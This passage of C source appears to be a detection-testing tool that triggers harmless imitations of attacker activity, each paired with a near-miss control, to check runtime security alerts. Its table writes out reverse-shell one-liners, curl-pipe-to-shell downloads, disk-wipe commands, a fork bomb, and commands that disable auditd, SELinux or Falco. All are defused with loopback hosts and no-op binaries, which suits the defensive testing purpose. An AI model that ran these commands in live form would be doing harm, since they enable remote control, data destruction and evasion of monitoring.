static int n_lua_reverse_shell(void) { return FAKE("lua", "-e", "print('hello')"); }
static int a_openssl_pipe(void)
{
	return sh("true || openssl s_client -quiet -connect 127.0.0.1:4444 | /bin/sh 2>&1 | openssl s_client -quiet -connect 127.0.0.1:4445");
}
static int n_openssl_pipe(void) { return sh("true || openssl s_client -connect 127.0.0.1:443 </dev/null"); }
static int a_ncat_sh_exec(void) { return FAKE("ncat", "--sh-exec", "/bin/sh", "127.0.0.1", "4444"); }
static int n_ncat_sh_exec(void) { return FAKE("ncat", "-l", "127.0.0.1", "4444"); }
static int a_dd_device(void) { return FAKE("dd", "if=/dev/zero", "of=/dev/sda", "bs=1M"); }
static int n_dd_device(void) { return FAKE("dd", "if=/dev/zero", "of=/dev/null", "count=1"); }
static int a_shred(void) { return FAKE("shred", "-uz", TMPDIR "/secret.db"); }
static int n_shred(void) { return FAKE("rm", "-f", TMPDIR "/secret.db"); }
static int a_wipefs(void) { return FAKE("wipefs", "-a", "/dev/sdb"); }
static int n_wipefs(void) { return FAKE("wipefs", "/dev/sdb"); }
static int a_auditctl_off(void) { return FAKE("auditctl", "-e", "0"); }
static int n_auditctl_off(void) { return FAKE("auditctl", "-l"); }
static int a_setenforce(void) { return FAKE("setenforce", "0"); }
static int n_setenforce(void) { return fake_as(NULL, "getenforce", NULL); }
static int a_pkill_sensor(void) { return FAKE("pkill", "-9", "falco"); }
static int n_pkill_sensor(void) { return FAKE("pkill", "-HUP", "nginx"); }
static int a_crontab_cmd(void) { return FAKE("crontab", TMPDIR "/jobs"); }
static int n_crontab_cmd(void) { return FAKE("crontab", "-l"); }
static int a_rc_local(void) { return touch_for_write("/etc/rc.local"); }
static int n_rc_local(void) { return open_dir("/etc"); }
static int a_shadow_direct(void) { return touch_for_write("/etc/shadow"); }
static int n_shadow_direct(void) { return read_path("/etc/group"); }
static int a_sudoers_main(void) { return touch_for_write("/etc/sudoers"); }
static int a_kubeconfig(void) { return with_file(TMPDIR "/.kube/config", true); }
static int n_kubeconfig(void) { return with_file(TMPDIR "/.kube/cache.json", true); }
static int a_history_truncate(void)
{
	tmpdir();
	write_file(TMPDIR "/.bash_history", O_APPEND, 0600);
	write_file(TMPDIR "/.bash_history", O_TRUNC, 0644); /* not a shell rewriting it */
	return unlink(TMPDIR "/.bash_history");
}
static int a_setgid_bit(void) { return chmod_temp(02755); }
static int a_unshare_cmd(void)
{
	char *argv[] = { (char *)"/usr/bin/unshare", (char *)"-Ur", (char *)"/bin/true", NULL };

	return spawn(NULL, argv, -1);
}
static int n_unshare_cmd(void)
{
	char *argv[] = { (char *)"/usr/bin/unshare", (char *)"-u", (char *)"/bin/true", NULL };

	return spawn(NULL, argv, -1);
}
static int a_process_vm_writev(void)
{
	pid_t kid = sleeper();
	char buf[1];
	struct iovec l = { buf, 0 }, r = { (void *)&self_exe, 0 }; /* nothing is written */
	long rc = syscall(SYS_process_vm_writev, kid, &l, 1, &r, 1, 0);

	reap(kid);
	return rc < 0 ? -1 : 0;
}

static const struct action actions[] = {
	/* execution */
	{ "reverse_shell", "T1059.004", ANY, "Reverse shell", a_reverse_shell, n_reverse_shell, "a shell makes a loopback TCP socket its stdin/stdout" },
	{ "bash_dev_tcp", "T1059.004", ANY, "Reverse shell;Reverse shell command line", a_bash_dev_tcp, n_bash_dev_tcp, "bash -c 'exec 1>/dev/tcp/127.0.0.1/PORT 0>&1' to a loopback listener" },
	{ "python_reverse_shell", "T1059.006", ANY, "Reverse shell command line;Redirect stdio to network socket", a_python_reverse_shell, n_python_reverse_shell, "python3 -c: connects to a loopback listener and dup2s the socket onto stdin/stdout" },
	{ "netcat_exec", "T1059.004", ANY, "Netcat remote code execution", a_netcat_exec, n_netcat_exec, "runs a no-op under the name nc with -e /bin/sh" },
	{ "socat_exec", "T1059.004", ANY, "Netcat remote code execution", a_socat_exec, n_socat_exec, "runs a no-op under the name socat with EXEC:/bin/sh" },
	{ "awk_reverse_shell", "T1059.004", ANY, "Reverse shell command line", a_awk_reverse_shell, n_awk_reverse_shell, "runs a no-op under the name gawk with an /inet/tcp one-liner" },
	{ "perl_reverse_shell", "T1059.004", ANY, "Reverse shell command line", a_perl_reverse_shell, n_perl_reverse_shell, "runs a no-op under the name perl with a socket+exec one-liner" },
	{ "php_reverse_shell", "T1059.004", ANY, "Reverse shell command line", a_php_reverse_shell, n_php_reverse_shell, "runs a no-op under the name php with an fsockopen one-liner" },
	{ "ruby_reverse_shell", "T1059.004", ANY, "Reverse shell command line", a_ruby_reverse_shell, n_ruby_reverse_shell, "runs a no-op under the name ruby with a TCPSocket one-liner" },
	{ "mkfifo_reverse_shell", "T1059.004", ANY, "Reverse shell command line", a_mkfifo_reverse_shell, n_mkfifo_reverse_shell, "sh -c 'true || (mkfifo f; cat f | sh -i | nc ...)' (the pipeline never runs)" },
	{ "telnet_pipe", "T1059.004", ANY, "Reverse shell command line", a_telnet_pipe, n_telnet_pipe, "sh -c 'true || telnet ... | /bin/sh | telnet ...' (never runs)" },
	{ "curl_pipe_sh", "T1059.004", ANY, "Run downloaded script through interpreter", a_curl_pipe_sh, n_curl_pipe_sh, "sh -c 'curl -fsSL URL | sh' with a no-op curl" },
	{ "lua_reverse_shell", "T1059.004", ANY, "Reverse shell command line", a_lua_reverse_shell, n_lua_reverse_shell, "a no-op named lua with a socket+popen one-liner" },
	{ "openssl_pipe", "T1059.004", ANY, "Reverse shell command line", a_openssl_pipe, n_openssl_pipe, "sh -c 'true || openssl s_client ... | /bin/sh | openssl s_client ...' (never runs)" },
	{ "ncat_sh_exec", "T1059.004", ANY, "Netcat remote code execution", a_ncat_sh_exec, n_ncat_sh_exec, "a no-op named ncat with --sh-exec /bin/sh" },
	{ "wget_pipe_bash", "T1059.004", ANY, "Run downloaded script through interpreter", a_wget_pipe_bash, n_wget_pipe_bash, "sh -c 'wget -qO- URL | bash' with a no-op wget" },
	{ "curl_pipe_python", "T1059.006", ANY, "Run downloaded script through interpreter", a_curl_pipe_python, n_curl_pipe_python, "sh -c 'curl URL | python3 -' with a no-op curl (python3 reads an empty program)" },
	{ "curl_subst", "T1059.004", ANY, "Run downloaded script through interpreter", a_curl_subst, n_curl_subst, "sh -c \"$(curl -fsSL URL)\" with a no-op curl" },
	{ "curl_python_stdin", "T1059.006", ANY, "Run downloaded script through interpreter", a_curl_python_stdin, n_curl_python_stdin, "curl URL | python3 -c 'import sys;exec(sys.stdin.read())' with a no-op curl" },
	{ "curl_pipe_sudo", "T1059.004", HOST, "Run downloaded script through interpreter", a_curl_pipe_sudo, n_curl_pipe_sudo, "sh -c 'curl URL | sudo sh' with a no-op curl (needs sudo)" },
	{ "pipeline_sh", "T1059.004", ANY, "Run downloaded script through interpreter", a_pipeline_sh, n_pipeline_sh, "an interactive shell's 'curl URL | sh': a copy named curl leads the process group, /bin/sh in it reads an empty pipe" },
	{ "pipeline_sh_first", "T1059.004", ANY, "Run downloaded script through interpreter", a_pipeline_sh_first, n_pipeline_sh_first, "an interactive shell's 'curl URL | sh' with the shell executed first: /bin/sh waits on the pipe in the group of a fork that then runs a copy named curl writing to it" },
	{ "downloaded_tmp_exec", "T1105", ANY, "Run binary downloaded to a temporary directory", a_downloaded_tmp_exec, n_downloaded_tmp_exec, "sh -c 'curl -o /tmp/saker-eventgen/upd URL; ...; /tmp/saker-eventgen/upd' (a no-op copy of itself)" },
	{ "hidden_tmp_exec", "T1564.001", ANY, "Execution of hidden file in temporary directory", a_hidden_tmp_exec, n_hidden_tmp_exec, "copies itself to /tmp/saker-eventgen/.cache/kworker and runs it as a no-op" },
	{ "bash_process_subst", "T1059.004", ANY, "Run downloaded script through interpreter", a_bash_process_subst, n_bash_process_subst, "bash -c 'bash <(curl URL)' with a no-op curl" },
	{ "preload_env", "T1574.006", ANY, "Library preloaded from a writable directory", a_preload_env, n_preload_env, "runs /bin/true with LD_PRELOAD=/tmp/saker-eventgen/libhook.so (absent: the loader skips it)" },
	{ "memfd_exec", "T1620", ANY, "Fileless execution via memfd_create", a_memfd_exec, n_plain_exec, "copies itself into a memfd and runs it (a no-op) with fexecve" },
	{ "devshm_exec", "T1059", ANY, "Execution from /dev/shm", a_devshm_exec, n_devshm_exec, "copies itself to /dev/shm, runs it as a no-op, removes it" },
	{ "tmp_exec", "T1204.002", ANY, "Execution from temporary directory", a_tmp_exec, n_plain_exec, "copies itself to /tmp/saker-eventgen, runs it as a no-op, removes it" },
	{ "new_binary_exec", "T1105", HOST, "Execute newly written binary", a_new_binary_exec, n_plain_exec, "copies itself to /var/cache/saker-eventgen and runs it at once" },
	{ "shell_from_server", "T1059.004", ANY, "Shell spawned by server process", a_shell_from_server, n_shell_from_server, "a process named nginx runs /bin/sh -c true" },
	{ "database_spawn", "T1190", ANY, "Database spawned process", a_db_spawn, n_db_spawn, "a process named mysqld runs /bin/true" },
	/* impact */
	{ "miner_cmdline", "T1496", ANY, "Crypto miner executed", a_miner_cmdline, n_miner_cmdline, "a no-op named xmrig with a mining pool domain" },
	{ "stratum_cmdline", "T1496", ANY, "Detect crypto miners using the Stratum protocol", a_stratum, n_stratum, "a no-op with a stratum+tcp URL argument" },
	{ "miner_pool_port", "T1496", ANY, "Detect outbound connections to common miner pool ports", a_miner_port, n_miner_port, "TCP connect to 192.0.2.1:3333 inside a private network namespace" },
	{ "miner_pool_domain", "T1496", ANY, "Detect outbound connections to mining pool domains", a_miner_pool_domain, n_miner_pool_domain, "resolves " POOL_HOST " (" POOL_IP ", from a private hosts file) and connects to it on port 443 in a private network namespace" },
	{ "wipe", "T1485", ANY, "Destructive wipe command", a_wipe, n_wipe, "a no-op named rm with -rf --no-preserve-root /" },
	{ "dd_device", "T1561.001", ANY, "Destructive wipe command", a_dd_device, n_dd_device, "a no-op named dd with of=/dev/sda" },
	{ "shred", "T1485", ANY, "Destructive wipe command", a_shred, n_shred, "a no-op named shred with -uz FILE" },
	{ "wipefs", "T1561.002", ANY, "Destructive wipe command", a_wipefs, n_wipefs, "a no-op named wipefs with -a /dev/sdb" },
	{ "fork_bomb", "T1499", ANY, "Fork bomb", a_fork_bomb, n_fork_bomb, "a no-op named bash with -c ':(){ :|:& };:'" },
	{ "fork_bomb_named", "T1499", ANY, "Fork bomb", a_fork_bomb_named, n_fork_bomb_named, "a no-op named bash with -c 'bomb(){ bomb|bomb& };bomb'" },
	{ "perl_fork_bomb", "T1499", ANY, "Fork bomb", a_perl_fork_bomb, n_perl_fork_bomb, "a no-op named perl with -e 'fork while fork'" },
	{ "ransom_create", "T1486", ANY, "Files renamed with ransomware extension", a_ransom_create, n_ransom_create, "creates and removes a temporary report.txt.locked (openssl enc -out's shape)" },
	{ "ransom_rename", "T1486", ANY, "Files renamed with ransomware extension", a_ransom_rename, n_ransom_rename, "renames a temporary file to .locked, removes it" },
	/* defense evasion */
	{ "disable_security", "T1562.001", ANY, "Disable security tools", a_disable_security, n_disable_security, "a no-op named systemctl with stop auditd" },
	{ "firewall_policy", "T1562.004", ANY, "Disable security tools", a_firewall_policy, n_firewall_policy, "a no-op named iptables with -P INPUT ACCEPT" },
	{ "kill_security_tool", "T1562.001", ANY, "Kill security tool process", a_kill_security_tool, n_kill_security_tool, "SIGKILL to a sleeping copy of itself named auditd" },
	{ "chattr_immutable", "T1222.002", ANY, "Set immutable file attribute", a_chattr_immutable, n_chattr_immutable, "a no-op named chattr with +i FILE" },
	{ "history_clear_cmd", "T1070.003", ANY, "Shell history cleared by command", a_history_clear_cmd, n_history_clear_cmd, "a no-op named bash with -c 'history -c; history -w'; near miss: history | tail" },
	{ "histfile_devnull", "T1070.003", ANY, "Shell history disabled by environment", a_histfile_devnull, n_histfile_devnull, "sh -c 'export HISTFILE=/dev/null; /bin/true'" },
	{ "auditctl_off", "T1562.012", ANY, "Disable security tools", a_auditctl_off, n_auditctl_off, "a no-op named auditctl with -e 0" },
	{ "setenforce_off", "T1562.001", ANY, "Disable security tools", a_setenforce, n_setenforce, "a no-op named setenforce with 0" },
	{ "firewall_flush", "T1562.004", ANY, "Disable security tools", a_firewall_flush, n_firewall_flush, "a no-op named iptables with -t filter -F" },
	{ "nft_flush", "T1562.004", ANY, "Disable security tools", a_nft_flush, n_nft_flush, "a no-op named nft with flush ruleset" },
	{ "pkill_sensor", "T1562.001", ANY, "Disable security tools", a_pkill_sensor, n_pkill_sensor, "a no-op named pkill with -9 falco" },
	{ "history_truncate", "T1070.003", ANY, "Delete or rename shell history", a_history_truncate, n_history, "truncates a temporary .bash_history (mode 0644, not a shell)" },
	{ "kernel_hardening", "T1562.001", HOST, "Weaken kernel security setting", a_kernel_hardening, n_kernel_hardening, "opens /proc/sys/kernel/randomize_va_space for writing, writes nothing" },
	{ "timestomp", "T1070.006", ANY, "Timestomp file times", a_timestomp, n_timestomp, "touch -d '2001-01-01' on a temporary file" },
	{ "utimensat_past_mtime", "T1070.006", ANY, "Timestomp file times", a_utimensat_past, n_utimensat_past, "utimensat(" TIMESTOMP_FILE ", 2001-01-01) by saker-eventgen itself on a file it creates and removes; near miss: NULL (now, as touch FILE), UTIME_NOW, UTIME_OMIT, a past atime alone, the time now, a day ahead" },
	{ "timestomp_reference", "T1070.006", ANY, "Timestomp file times", a_timestomp_reference, n_timestomp_reference, "touch -r /etc/hostname on a temporary file" },
	{ "timestomp_cluster", "T1070.006", ANY, "Timestomp file times", a_timestomp_cluster, n_timestomp_cluster, "touch -amt 200101010000 on a temporary file" },
	{ "debugfs_timestomp", "T1070.006", ANY, "Timestomp file times", a_debugfs_timestomp, n_debugfs_timestomp, "a no-op named debugfs with -w -R 'set_inode_field FILE ctime DATE'" },
	{ "python_utime", "T1070.006", ANY, "Timestomp file times", a_python_utime, n_python_utime, "python3 -c 'os.utime(FILE, (2001-01-01, ...))' on a temporary file; near miss: os.utime(FILE) and a day ahead" },
	{ "python_utime_lib", "T1070.006", ANY, "Timestomp file times", a_python_utime_lib, n_python_utime_lib, "python3 -c 'os.utime(FILE, (2001-01-01, ...))' on " TIMESTOMP_FILE " (one alert: at the call, not at the exec too); near miss: os.utime(FILE) and a day ahead" },
	{ "perl_utime_lib", "T1070.006", ANY, "Timestomp file times", a_perl_utime_lib, n_perl_utime_lib, "perl -e 'utime 2001-01-01, ..., FILE' on " TIMESTOMP_FILE " (one alert); near miss: utime undef (now) and a day ahead" },
	{ "old_time_calls", "T1070.006", ANY, "Timestomp file times", a_old_time_calls, n_old_time_calls, "utimes, futimesat, utime (by number) and futimens setting 2001-01-01 on " TIMESTOMP_FILE "; near miss: the same calls a day ahead" },
	{ "clear_log", "T1070.002", ANY, "Clear log activities", a_clear_log, n_clear_log, "truncates and removes /var/log/saker-eventgen.log" },
	{ "history_delete", "T1070.003", ANY, "Delete or rename shell history", a_history_delete, n_history, "removes a temporary .bash_history" },
	{ "history_devnull", "T1070.003", ANY, "Delete or rename shell history", a_history_devnull, n_history, "links a temporary .zsh_history to /dev/null" },
	{ "self_delete", "T1070.004", ANY, "Delete own executable", a_self_delete, n_self_delete, "a copy of itself in /tmp removes its own file" },
	{ "package_db", "T1070", ANY, "Write to package database", a_pkg_db, n_pkg_db, "creates and removes a file in /var/lib/dpkg" },
	{ "bpftool_load", "T1014", ANY, "BPF program loaded by unexpected program", a_bpftool_load, n_bpftool_load, "a copy named bpftool with 'prog load' calls bpf(BPF_PROG_LOAD) (refused)" },
	{ "bpf_load", "T1014", ANY, "BPF program loaded by unexpected program", a_bpf_load, n_bpf_load, "calls bpf(BPF_PROG_LOAD) with an empty program (refused)" },
	{ "ptrace_traceme", "T1622", ANY, "PTRACE anti-debug attempt", a_ptrace_traceme, n_ptrace, "a child calls ptrace(PTRACE_TRACEME)" },
	/* persistence */
	{ "cron", "T1053.003", ANY, "Schedule cron jobs", a_cron, n_cron, "writes and removes a crontab in /var/spool/cron/crontabs" },
	{ "crontab_cmd", "T1053.003", ANY, "Schedule cron jobs", a_crontab_cmd, n_crontab_cmd, "a no-op named crontab with a file argument" },
	{ "rc_local", "T1037.004", ANY, "Modify init scripts", a_rc_local, n_rc_local, "opens /etc/rc.local for appending (created and removed if absent), writes nothing" },
	{ "shadow_direct", "T1098", ANY, "Modify user database directly", a_shadow_direct, n_shadow_direct, "opens /etc/shadow for appending, writes nothing" },
	{ "sudoers_main", "T1548.003", ANY, "Modify sudoers configuration", a_sudoers_main, n_sudoers_dropin, "opens /etc/sudoers for appending, writes nothing" },
	{ "systemd_run_timer", "T1053.006", ANY, "Schedule systemd timer with systemd-run", a_systemd_run_timer, n_systemd_run_timer, "a no-op named systemd-run with --on-active=1h" },
	{ "at_job", "T1053.002", ANY, "Schedule at job", a_at_job, n_at_job, "a no-op named at with 'now + 1 minute'" },
	{ "at_spool", "T1053.002", ANY, "Schedule at job file", a_at_spool, n_at_spool, "writes and removes a file in /var/spool/cron/atjobs" },
	{ "systemd_unit", "T1543.002", ANY, "Create or modify systemd unit", a_systemd_unit, n_systemd_unit, "writes and removes /etc/systemd/system/saker-eventgen.tmp" },
	{ "systemd_timer", "T1053.006", ANY, "Create or modify systemd unit", a_systemd_timer, n_systemd_timer, "writes and removes a user timer under a temporary ~/.config/systemd/user" },
	{ "shell_config", "T1546.004", ANY, "Modify shell configuration file", a_shell_config, n_shell_config, "writes and removes a temporary .bashrc" },
	{ "xdg_autostart", "T1547.013", ANY, "Modify shell configuration file", a_xdg_autostart, n_xdg_autostart, "writes and removes a temporary ~/.config/autostart/*.desktop" },
	{ "rename_over_bashrc", "T1546.004", ANY, "Persistence file replaced by rename", a_rename_over_bashrc, n_rename_over_bashrc, "renames a temporary file over a temporary .bashrc (sed -i's shape), removes it" },
	{ "profile_d", "T1546.004", ANY, "Modify shell configuration file", a_profile_d, n_profile_d, "writes and removes a file in /etc/profile.d (not *.sh: never sourced)" },
	{ "authorized_keys", "T1098.004", ANY, "Modify ssh authorized keys", a_authorized_keys, n_authorized_keys, "writes and removes a temporary .ssh/authorized_keys" },
	{ "sudoers_dropin", "T1548.003", ANY, "Modify sudoers configuration", a_sudoers_dropin, n_sudoers_dropin, "writes and removes /etc/sudoers.d/saker-eventgen.test (sudo skips names with a dot)" },
	{ "pam", "T1556.003", ANY, "Modify PAM configuration", a_pam, n_pam, "writes and removes /etc/pam.d/saker-eventgen (no service uses it)" },
	{ "ld_preload", "T1574.006", ANY, "Modify dynamic linker preload", a_ld_preload, n_ld_preload, "opens /etc/ld.so.preload for appending, writes nothing" },
	{ "init_script", "T1037.004", ANY, "Modify init scripts", a_init_script, n_init_script, "writes and removes /etc/init.d/saker-eventgen" },
	{ "udev_rule", "T1546", ANY, "Create udev rule", a_udev_rule, n_udev_rule, "writes and removes /etc/udev/rules.d/saker-eventgen.tmp (not *.rules: never loaded)" },
	{ "new_user", "T1136.001", ANY, "Create user account", a_new_user, n_new_user, "a no-op named useradd with -m saker-eventgen-user" },
	{ "chpasswd_stdin", "T1098", ANY, "Create user account", a_chpasswd_stdin, n_chpasswd_stdin, "a no-op named chpasswd with no arguments (it reads user:password lines); near miss: mkpasswd" },
	{ "user_mgmt", "T1136", ANY, "User management binary executed", a_user_mgmt, n_user_mgmt, "a no-op named passwd with -S root" },
	{ "passwd_direct", "T1136.001", ANY, "Modify user database directly", a_passwd_direct, n_read_shadow, "opens /etc/passwd for appending, writes nothing" },
	{ "kernel_module", "T1547.006", ANY, "Linux kernel module injection", a_kernel_module, n_kernel_module, "calls init_module with a non-module (refused)" },
	{ "write_etc", "T1098", ANY, "Write below etc", a_write_etc, n_write_etc, "creates and removes /etc/saker-eventgen-test" },
	{ "write_bin", "T1543", ANY, "Write below binary dir;Modify binary dirs", a_write_bin, n_write_bin, "creates and removes /usr/local/bin/saker-eventgen-test" },
	{ "write_root", "T1543", ANY, "Write below root", a_write_root, n_write_root, "creates and removes /saker-eventgen-test" },
	{ "dev_file", "T1036", ANY, "Create files below dev", a_dev_file, n_dev_file, "creates and removes /dev/saker-eventgen-test" },
	{ "mkdir_bin", "T1222", ANY, "Modify binary dirs", a_mkdir_bin, n_mkdir_bin, "creates and removes a directory in /usr/local/bin" },
	/* privilege escalation */
	{ "setuid_bit", "T1548.001", ANY, "Set setuid or setgid bit", a_setuid_bit, n_setuid_bit, "sets the setuid bit on a temporary file" },
	{ "setuid_exec", "T1548.001", HOST, "Set setuid or setgid bit;Run setuid binary from unusual location", a_setuid_exec, n_setuid_exec, "nobody runs a setuid-root copy of itself from /var/tmp" },
	{ "setgid_bit", "T1548.001", ANY, "Set setuid or setgid bit", a_setgid_bit, n_setuid_bit, "sets the setgid bit on a temporary file" },
	{ "unshare_cmd", "T1068", HOST, "Unexpected user namespace created", a_unshare_cmd, n_unshare_cmd, "unshare -Ur /bin/true" },
	{ "process_vm_writev", "T1055.009", ANY, "Write to process memory", a_process_vm_writev, n_ptrace, "process_vm_writev of zero bytes into its sleeping child" },
	{ "setcap", "T1548", ANY, "Set file capabilities", a_setcap, n_setcap, "a no-op named setcap with cap_setuid+ep" },
	{ "setxattr_capability", "T1548", ANY, "Set file capabilities", a_setxattr_cap, n_setxattr_cap, "python3 -c 'os.setxattr(FILE, \"security.capability\", ...)' on a temporary file (one alert: at the call, not at the exec too); near miss: a user.* attribute set and read" },
	{ "setxattr_capability_call", "T1548", ANY, "Set file capabilities", a_setxattr_cap_call, n_setxattr_cap_call, "setxattr(FILE, security.capability, cap_net_raw+ep) by saker-eventgen itself on a temporary file; near miss: a user.* attribute" },
	{ "setfattr_capability", "T1548", ANY, "Set file capabilities", a_setfattr_cap, n_setfattr_cap, "a no-op named setfattr with -n security.capability; near miss: a user.* attribute" },
	{ "non_sudo_setuid", "T1548", ANY, "Non sudo setuid", a_non_sudo_setuid, n_non_sudo_setuid, "a child becomes nobody and calls setuid" },
	{ "setns", "T1611", ANY, "Change namespace privileges via unexpected setns", a_setns, n_setns, "a child calls setns on its own uts namespace" },
	{ "nsenter", "T1611", HOST, "Change namespace privileges via unexpected setns", a_nsenter, n_nsenter, "nsenter -t OWN_PID -u /bin/true (enters the namespace it is in)" },
	{ "userns", "T1068", HOST, "Unexpected user namespace created", a_userns, n_userns, "a child calls unshare(CLONE_NEWUSER)" },
	{ "userns_clone", "T1068", HOST, "Unexpected user namespace created", a_userns_clone, n_userns_clone, "a child calls clone(CLONE_NEWUSER); its child exits at once" },
	{ "userns_clone3", "T1068", HOST, "Unexpected user namespace created", a_userns_clone3, n_userns_clone3, "a child calls clone3(CLONE_NEWUSER|CLONE_NEWNS); its child exits at once" },
	{ "ptrace_attach", "T1055.008", ANY, "PTRACE attached to process", a_ptrace_attach, n_ptrace, "attaches to its own sleeping child with ptrace" },
	{ "debugger_attach", "T1055.008", ANY, "PTRACE attached to process", a_debugger_attach, n_debugger_attach, "a copy named strace with -p PID attaches to its sleeping sibling" },
	{ "proc_mem_write", "T1055.009", ANY, "Write to process memory", a_proc_mem_write, n_proc_mem, "opens its child's /proc/PID/mem for writing, writes nothing" },
	{ "proc_mem_read", "T1003.007", ANY, "Read process memory", a_proc_mem_read, n_proc_mem, "opens its child's /proc/PID/mem for reading; process_vm_readv on it" },
	{ "release_agent", "T1611", ANY, "Detect release_agent file container escapes", a_release_agent, n_release_agent, "writes a temporary file named release_agent" },
	{ "core_pattern", "T1611", HOST, "Write to kernel core_pattern", a_core_pattern, n_core_pattern, "opens /proc/sys/kernel/core_pattern for writing, writes nothing" },
	{ "runtime_socket", "T1611", CONTAINER, "Container runtime socket used from container", a_runtime_socket, n_runtime_socket, "connects to a unix socket named docker.sock it listens on" },
	{ "container_mount", "T1611", CONTAINER, "Mount in container", do_mount, n_plain_exec, "calls mount(tmpfs) (refused in an unprivileged container)" },
	{ "container_drop_exec", "T1204.002", CONTAINER, "Drop and execute new binary in container", a_container_drop, n_plain_exec, "copies itself to /tmp and runs the copy" },
	{ "container_scan", "T1046", CONTAINER, "Network scanner run in container", a_container_scan, n_container_scan, "a no-op named nmap with a port range" },
	{ "container_package", "T1072", CONTAINER, "Package management process launched in container", a_container_pkg, n_container_pkg, "a no-op named apt-get with install" },
	/* credential access */
	{ "read_shadow", "T1003.008", ANY, "Read sensitive file untrusted", a_read_shadow, n_read_shadow, "opens /etc/shadow for reading" },
	{ "trusted_late_read", "T1003.008", ANY, "Read sensitive file trusted after startup", a_trusted_late_read, n_trusted_late_read, "a copy of itself named sshd-session reads /etc/shadow 61 s after its start" },
	{ "search_keys", "T1552.001", ANY, "Search private keys or passwords", a_search_keys, n_search_keys, "runs find -name id_rsa in an empty path" },
	{ "read_ssh", "T1552.004", ANY, "Read ssh information by non-ssh program", a_read_ssh, n_read_ssh, "reads a file in a temporary .ssh directory" },
	{ "read_private_key", "T1552.004", ANY, "Read ssh information by non-ssh program", a_read_private_key, n_read_private_key, "reads a temporary file named id_ed25519" },
	{ "cloud_credentials", "T1552.001", ANY, "Read cloud or cluster credentials", a_cloud_creds, n_cloud_creds, "reads a temporary .aws/credentials" },
	{ "kubeconfig", "T1552.001", ANY, "Read cloud or cluster credentials", a_kubeconfig, n_kubeconfig, "reads a temporary .kube/config" },
	{ "service_account_token", "T1528", ANY, "Read service account token", a_sa_token, n_sa_token, "reads a token it writes under /run/secrets/kubernetes.io/serviceaccount" },
	{ "proc_environ", "T1552", ANY, "Read environment of other process", a_proc_environ, n_proc_environ, "reads its child's /proc/PID/environ" },
	{ "symlink_sensitive", "T1003.008", ANY, "Create symlink over sensitive files", a_symlink_sensitive, n_symlink_sensitive, "links /etc/shadow from a temporary symlink" },
	{ "hardlink_sensitive", "T1003.008", ANY, "Create hardlink over sensitive files", a_hardlink_sensitive, n_hardlink_sensitive, "hard-links /etc/shadow, then removes the link" },
	/* command and control */
	{ "system_binary_network", "T1071", ANY, "System binary opened network connection", a_system_binary_network, n_system_binary_network, "a process named cat connects to 192.0.2.1:80 in a private network namespace" },
	{ "ssh_nonstandard_port", "T1571", ANY, "Outbound ssh to non-standard port", a_ssh_nonstandard, n_ssh_nonstandard, "a process named ssh connects to 192.0.2.1:2222 in a private network namespace" },
	{ "packet_socket", "T1040", ANY, "Packet socket created", a_packet_socket, n_packet_socket_as_dhclient, "opens and closes an AF_PACKET socket" },
	{ "raw_socket", "T1095", ANY, "Raw IP socket created", a_raw_socket, n_raw_socket, "opens and closes a raw ICMP socket" },
	{ "dns_tunnel", "T1071.004", ANY, "DNS tunnelling tool launched", a_dns_tunnel, n_dns_tunnel, "a no-op named iodine" },
	{ "dns_encoded", "T1071.004", ANY, "DNS tunnelling tool launched", a_dns_encoded, n_dns_encoded, "a no-op named dig asked for a name with a 54-character hex label" },
	{ NULL, NULL, ANY, NULL, NULL, NULL, NULL },
};

static const char *where_name(enum where w)
{
	return w == HOST ? "host" : w == CONTAINER ? "container" : "any";
}

/* takes a minute: --all runs it alongside the others */
static bool is_slow(const struct action *a)
{
	return a->run == a_trusted_late_read;
}

/* --sessions FILE: each action in a child of its own that leads a new
 * session (setsid), so its alerts (proc.sid) are its own; "NAME SID START"
 * lines are appended to FILE, START the wall clock (ns) before the fork: a
 * session id is a pid, which a later session may be given again. Without it
 * (sessions NULL) the action runs in this process. */
static FILE *sessions;

static int run_one(const struct action *a, bool near);

static pid_t run_in_session(const struct action *a, bool near)
{
	struct timespec t;
	pid_t kid;

	clock_gettime(CLOCK_REALTIME, &t);
	kid = fork();
	if (kid == 0) {
		if (setsid() < 0)
			_exit(1);
		_exit(run_one(a, near));
	}
	if (kid > 0) {
		fprintf(sessions, "%s %d %lld%09ld\n", a->name, (int)kid, (long long)t.tv_sec, t.tv_nsec);
		fflush(sessions);
	}
	return kid;
}

static int run_one(const struct action *a, bool near)
{
	int rc;

	printf("%-24s %s%s\n", a->name, near ? "(near miss) " : "", a->what);
	fflush(stdout);
	errno = 0;
	rc = near ? a->near() : a->run();
	if (rc)
		printf("  (the behaviour was attempted; it returned %d: %s)\n", rc, strerror(errno));
	return 0;
}

static void cleanup(void)
{
	rmdir(TMPDIR);
}

int main(int argc, char **argv)
{
	if (getenv(NOOP_ENV))
		return 0;
	if (getenv(SLEEP_ENV)) {
		sleep(1);
		return 0;
	}
	if (getenv(ATTACH_ENV)) {
		pid_t pid = (pid_t)atoi(getenv(ATTACH_ENV));

		if (pid <= 0 || ptrace(PTRACE_ATTACH, pid, 0, 0))
			return 1;
		waitpid(pid, NULL, __WALL);
		return ptrace(PTRACE_DETACH, pid, 0, 0) ? 1 : 0;
	}
	if (getenv(BPF_ENV)) {
		union bpf_attr attr;

		memset(&attr, 0, sizeof(attr)); /* no instructions: the kernel refuses */
		syscall(SYS_bpf, BPF_PROG_LOAD, &attr, sizeof(attr));
		return 0;
	}
	if (getenv(READ_AFTER_ENV)) { /* SECONDS:PATH */
		char *colon = strchr(getenv(READ_AFTER_ENV), ':');

		if (!colon)
			return 1;
		sleep(atoi(getenv(READ_AFTER_ENV)));
		return read_path(colon + 1) ? 1 : 0;
	}
	if (getenv(SELFDEL_ENV)) {
		char p[PATH_MAX];
		ssize_t n = readlink("/proc/self/exe", p, sizeof(p) - 1);

		if (n <= 0)
			return 1;
		p[n] = 0;
		return unlink(p) ? 1 : 0;
	}
	prctl(PR_SET_NAME, "saker-eventgen", 0, 0, 0);
	setvbuf(stdout, NULL, _IOLBF, 0);
	{
		ssize_t n = readlink("/proc/self/exe", self_exe, sizeof(self_exe) - 1);

		self_exe[n > 0 ? n : 0] = 0;
	}
	if (argc == 2 && !strcmp(argv[1], "--hosts")) { /* what saker must resolve for miner_pool_domain */
		printf("%s %s\n", POOL_IP, POOL_HOST);
		return 0;
	}
	if (argc == 2 && !strcmp(argv[1], "--list")) {
		for (const struct action *a = actions; a->name; a++)
			printf("%-24s %-10s %-9s %s\n", a->name, a->technique, where_name(a->where), a->rules);
		return 0;
	}
	if ((argc == 2 || (argc == 4 && !strcmp(argv[2], "--sessions"))) &&
